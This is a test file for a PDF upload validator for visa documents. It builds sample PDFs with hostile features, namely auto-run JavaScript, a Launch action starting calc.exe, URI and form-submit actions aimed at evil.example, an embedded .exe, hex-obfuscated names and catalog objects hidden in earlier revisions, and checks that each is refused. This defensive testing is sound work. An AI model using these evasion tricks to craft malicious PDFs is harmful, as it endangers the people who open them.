import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { MAX_UPLOAD_BYTES } from '@wayfare/proto/document/v1/limits';
import { judgeVisaFile } from './judge-visa-file.ts';

const pdfWith = async (change: (pdf: PDFDocument) => void | Promise<void>, useObjectStreams = true) => {
  const pdf = await PDFDocument.create();
  pdf.addPage().drawText('Visa');
  await change(pdf);
  return Buffer.from(await pdf.save({ useObjectStreams }));
};
const setInCatalog = (key: string, value: object) => (pdf: PDFDocument) =>
  pdf.catalog.set(PDFName.of(key), pdf.context.obj(value as Parameters<typeof pdf.context.obj>[0]) as never);
const script = { S: 'JavaScript', JS: PDFString.of('app.alert(1)') };

describe('the file of an issued visa', () => {
  it('is taken where it only shows pages, whichever page comes first', async () => {
    expect(await judgeVisaFile(await pdfWith(() => {}))).toEqual({ accepted: true });
    const opensAtPage = await pdfWith((pdf) => setInCatalog('OpenAction', [pdf.getPage(0).ref, 'Fit'])(pdf));
    expect(await judgeVisaFile(opensAtPage)).toEqual({ accepted: true });
  });

  it.each<[string, (pdf: PDFDocument) => void | Promise<void>]>([
    ['a script run on opening', setInCatalog('OpenAction', script)],
    ['a script by name', (pdf) => pdf.addJavaScript('main', 'app.alert(1)')],
    ['a program started on opening', setInCatalog('OpenAction', { S: 'Launch', F: PDFString.of('calc.exe') })],
    ['a page that is sent home', setInCatalog('OpenAction', { S: 'URI', URI: PDFString.of('https://evil.example') })],
    ['an action on closing', setInCatalog('AA', { WC: script })],
    ['another file within it', (pdf) => pdf.attach(Buffer.from('MZ'), 'visa.exe', { mimeType: 'application/exe' })],
    ['a form that sends itself', setInCatalog('Extra', { S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
  ])('is refused with %s, also in packed objects', async (_name, change) => {
    for (const packed of [true, false])
      expect(await judgeVisaFile(await pdfWith(change, packed))).toEqual({ fault: 'not-safe' });
  });

  it('is refused where a name is spelled in another way', async () => {
    const plain = await pdfWith(setInCatalog('OpenAction', script), false);
    const disguised = Buffer.from(plain.toString('latin1').replaceAll('/JavaScript', '/J#61vaScrip#74'), 'latin1');
    expect(disguised.equals(plain)).toBe(false);
    expect(await judgeVisaFile(disguised)).toEqual({ fault: 'not-safe' });
  });

  describe('of several revisions', () => {
    const catalogOf = (file: Buffer) => {
      const [, object = '', pages = ''] =
        /(\d+ 0) obj\s*<<[^>]*\/Type \/Catalog[^>]*?\/Pages (\d+ 0) R/s.exec(file.toString('latin1')) ?? [];
      return { object, pages };
    };
    /** Adds a harmless catalogue at the end, and leads readers back to the table of the revision before. */
    const updated = (file: Buffer, added = '') => {
      const { object, pages } = catalogOf(file);
      const [, table] = /startxref\s+(\d+)/.exec(file.toString('latin1')) ?? [];
      const catalog = `${object} obj\n<< /Type /Catalog /Pages ${pages} R >>\nendobj\n`;
      return Buffer.concat([file, Buffer.from(`\n${added}${catalog}startxref\n${table}\n%%EOF\n`)]);
    };

    it('is taken where each only shows pages, as with a signed one', async () => {
      expect(await judgeVisaFile(updated(await pdfWith(() => {}, false)))).toEqual({ accepted: true });
    });

    it.each<[string, object]>([
      ['runs a script', script],
      ['sends a page home', { S: 'URI', URI: PDFString.of('https://evil.example') }],
    ])('is refused where an earlier one %s, whatever the last one says', async (_name, action) => {
      const first = await pdfWith(setInCatalog('OpenAction', action), false);
      expect(await judgeVisaFile(updated(first))).toEqual({ fault: 'not-safe' });
    });

    it.each<[string, (hidden: string) => string]>([
      [
        'the content of another',
        (hidden) => `90 0 obj\n<< /Length ${hidden.length} >>\nstream\n${hidden}\nendstream\nendobj\n`,
      ],
      ['a comment', (hidden) => `% ${hidden.replaceAll('\n', ' ')}\n`],
    ])('is refused where an object hides in %s, where a table may lead to it', async (_name, hide) => {
      const plain = await pdfWith(() => {}, false);
      const { object, pages } = catalogOf(plain);
      const hidden = `${object} obj\n<< /Type /Catalog /Pages ${pages} R /OpenAction << /S /JavaScript /JS (x) >> >>\nendobj`;
      expect(await judgeVisaFile(updated(plain, hide(hidden)))).toEqual({ fault: 'not-safe' });
    });
  });

  it('is refused where a password keeps it shut', async () => {
    const locked = await pdfWith((pdf) => pdf.encrypt({ ownerPassword: 'owner', userPassword: 'user' }));
    expect(await judgeVisaFile(locked)).toEqual({ fault: 'not-safe' });
  });

  it('is refused where it is something else, cut short or too large', async () => {
    const whole = await pdfWith(() => {});
    for (const other of [Buffer.alloc(0), Buffer.from('%PDF-1.7'), Buffer.from('<svg/>'), whole.subarray(0, 60)])
      expect(await judgeVisaFile(other)).toEqual({ fault: 'not-a-pdf' });
    expect(await judgeVisaFile(Buffer.concat([Buffer.from(' '), whole]))).toEqual({ fault: 'not-a-pdf' });
    expect(await judgeVisaFile(Buffer.alloc(MAX_UPLOAD_BYTES + 1))).toEqual({ fault: 'too-large' });
  });
});
